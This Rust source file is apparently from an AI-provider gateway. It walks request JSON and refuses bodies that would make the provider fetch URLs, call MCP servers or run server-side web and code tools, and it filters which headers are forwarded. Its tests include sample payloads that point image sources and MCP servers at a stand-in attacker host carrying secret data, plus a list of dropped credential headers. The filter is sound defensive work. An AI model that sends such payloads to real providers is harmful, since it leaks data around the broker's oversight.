//! What a model request may ask the provider to do on its own: nothing that reaches a host. A
//! provider fetches what a request names by URL (an image or document source of type `url`,
//! an `image_url` or `file_url`), calls the MCP servers it names, and runs its server-side web
//! and code tools from its own network, where the broker decides nothing; a request that asks
//! for any of these is refused whole. So are the headers a request carries beyond the few an
//! API reads to shape the answer (an organisation, a project or another key would reach an
//! account the program chose).

use serde::de::{DeserializeSeed, Deserializer, MapAccess, SeqAccess, Visitor};

/// Keys whose mere presence (not null) asks the provider to reach out: MCP servers it would
/// call, and OpenAI's search options for its search-preview models.
macro_rules! REACHING_KEY {
    () => {
        "mcp_servers" | "server_url" | "connector_id" | "web_search_options"
    };
}

/// The request headers the gateway sends on (besides the key it puts on itself).
pub fn header_passes(name: &str) -> bool {
    matches!(
        name,
        "content-type"
            | "accept"
            | "accept-encoding"
            | "accept-language"
            | "user-agent"
            | "anthropic-version"
            | "anthropic-beta"
            | "openai-beta"
            | "x-app"
    ) || name.starts_with("x-stainless-")
}

/// Tool and block types a provider runs on its own network.
const SERVER_SIDE: [&str; 7] = [
    "web_search",
    "web_fetch",
    "code_execution",
    "mcp",
    "url_context",
    "bash_code_execution",
    "text_editor_code_execution",
];

/// Keys whose URL value the provider fetches.
const FETCHED: [&str; 5] = [
    "image_url",
    "file_url",
    "document_url",
    "audio_url",
    "video_url",
];

/// Why the provider would reach a host for this body; `None` when it would not. An empty
/// body is a read (`GET /v1/models`); anything else must be JSON. The body is walked as it
/// is parsed, never built into a tree (a 32 MiB array of zeros would be half a GiB as one).
pub fn reaches_out(body: &[u8]) -> Option<String> {
    if body.iter().all(u8::is_ascii_whitespace) {
        return None;
    }
    let mut found = None;
    let mut reader = serde_json::Deserializer::from_slice(body);
    let walked = Scan(&mut found)
        .deserialize(&mut reader)
        .and_then(|()| reader.end());
    match walked {
        Ok(()) => found,
        Err(e) => Some(format!("the request body is not JSON ({e})")),
    }
}

/// Walks any JSON value, noting in `.0` the first thing that would reach out.
struct Scan<'a>(&'a mut Option<String>);

impl<'de> DeserializeSeed<'de> for Scan<'_> {
    type Value = ();
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(Walk {
            found: self.0,
            leaf: None,
        })
    }
}

/// A value's shape, as the rules about one key read it.
#[derive(Debug, Default)]
enum Leaf {
    #[default]
    Null,
    Str(String),
    /// An object, with its `url` member when that is a string.
    Object(Option<String>),
    Other,
}

/// Walks a value; with `leaf`, also says what it was.
struct Walk<'a, 'b> {
    found: &'a mut Option<String>,
    leaf: Option<&'b mut Leaf>,
}

impl Walk<'_, '_> {
    fn is(&mut self, what: Leaf) {
        if let Some(leaf) = self.leaf.as_deref_mut() {
            *leaf = what;
        }
    }
}

impl<'de> Visitor<'de> for Walk<'_, '_> {
    type Value = ();

    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("any JSON value")
    }

    fn visit_bool<E>(mut self, _: bool) -> Result<(), E> {
        self.is(Leaf::Other);
        Ok(())
    }
    fn visit_i64<E>(mut self, _: i64) -> Result<(), E> {
        self.is(Leaf::Other);
        Ok(())
    }
    fn visit_u64<E>(mut self, _: u64) -> Result<(), E> {
        self.is(Leaf::Other);
        Ok(())
    }
    fn visit_f64<E>(mut self, _: f64) -> Result<(), E> {
        self.is(Leaf::Other);
        Ok(())
    }
    fn visit_str<E>(mut self, v: &str) -> Result<(), E> {
        self.is(Leaf::Str(v.to_owned()));
        Ok(())
    }
    fn visit_unit<E>(mut self) -> Result<(), E> {
        self.is(Leaf::Null);
        Ok(())
    }
    fn visit_none<E>(mut self) -> Result<(), E> {
        self.is(Leaf::Null);
        Ok(())
    }

    fn visit_seq<A: SeqAccess<'de>>(mut self, mut seq: A) -> Result<(), A::Error> {
        self.is(Leaf::Other);
        while seq.next_element_seed(Scan(self.found))?.is_some() {}
        Ok(())
    }

    fn visit_map<A: MapAccess<'de>>(mut self, mut map: A) -> Result<(), A::Error> {
        let mut url = None;
        while let Some(key) = map.next_key::<std::borrow::Cow<'de, str>>()? {
            let mut leaf = Leaf::default();
            map.next_value_seed(Keyed {
                found: self.found,
                leaf: &mut leaf,
            })?;
            if key == "url"
                && let Leaf::Str(u) = &leaf
            {
                url = Some(u.clone());
            }
            if self.found.is_none() {
                *self.found = field(&key, &leaf);
            }
        }
        self.is(Leaf::Object(url));
        Ok(())
    }
}

/// One member's value: walked, and its shape kept for the rules about its key.
struct Keyed<'a, 'b> {
    found: &'a mut Option<String>,
    leaf: &'b mut Leaf,
}

impl<'de> DeserializeSeed<'de> for Keyed<'_, '_> {
    type Value = ();
    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(Walk {
            found: self.found,
            leaf: Some(self.leaf),
        })
    }
}

fn is_remote(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    !lower.starts_with("data:")
}

/// What a member with this key and value asks of the provider, when it reaches out.
fn field(key: &str, v: &Leaf) -> Option<String> {
    match (key, v) {
        (REACHING_KEY!(), Leaf::Null) => None,
        (REACHING_KEY!(), _) => Some(format!(
            "it names `{key}`: the provider would reach out where the broker never decided"
        )),
        ("type", Leaf::Str(t)) if t == "url" => Some(
            "it holds a source of type `url`, which the provider fetches from its own network"
                .to_owned(),
        ),
        ("type", Leaf::Str(t)) if SERVER_SIDE.iter().any(|s| t.starts_with(s)) => Some(format!(
            "it asks for `{t}`, a tool the provider runs on its own network"
        )),
        (k, Leaf::Str(url) | Leaf::Object(Some(url))) if FETCHED.contains(&k) && is_remote(url) => {
            Some(format!(
                "its `{k}` names a URL the provider would fetch; send the bytes inline instead"
            ))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_reaches_out_is_refused_and_plain_requests_pass() {
        for ok in [
            "",
            r#"{"model":"m","max_tokens":10,"stream":true,"messages":[{"role":"user","content":"see https://example.com/x"}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}"#,
            r#"{"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"messages":[]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}"#,
            r#"{"mcp_servers":null}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"tool_result","content":"the url type is fine as text"}]}]}"#,
        ] {
            assert_eq!(reaches_out(ok.as_bytes()), None, "{ok}");
        }
        for refused in [
            "not json",
            "{",
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://a.example/"}}]}]}"#,
            r#"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
            r#"{"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
            r#"{"tools":[{"type":"code_execution_20250522","name":"code_execution"}]}"#,
            r#"{"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}"#,
            r#"{"tools":[{"type":"mcp","server_url":"https://attacker.example/mcp"}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/i.png?d=1"}}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.example/i.png"}]}]}"#,
            r#"{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/f.pdf"}]}]}"#,
            r#"{"tools":[{"type":"web_search_preview"}]}"#,
            r#"{"model":"gpt-4o-search-preview","web_search_options":{}}"#,
            r#"{"a":1} trailing"#,
        ] {
            assert!(reaches_out(refused.as_bytes()).is_some(), "{refused}");
        }
        // Nested past serde_json's depth: refused, never a stack overflow.
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        assert!(reaches_out(deep.as_bytes()).is_some());
    }

    #[test]
    fn only_the_headers_an_api_reads_pass() {
        for ok in [
            "content-type",
            "anthropic-version",
            "anthropic-beta",
            "x-stainless-os",
            "accept",
        ] {
            assert!(header_passes(ok), "{ok}");
        }
        for dropped in [
            "x-api-key",
            "authorization",
            "cookie",
            "openai-organization",
            "openai-project",
            "api-key",
            "x-litellm-api-key",
            "expect",
            "content-length",
            "transfer-encoding",
            "x-forwarded-for",
        ] {
            assert!(!header_passes(dropped), "{dropped}");
        }
    }
}
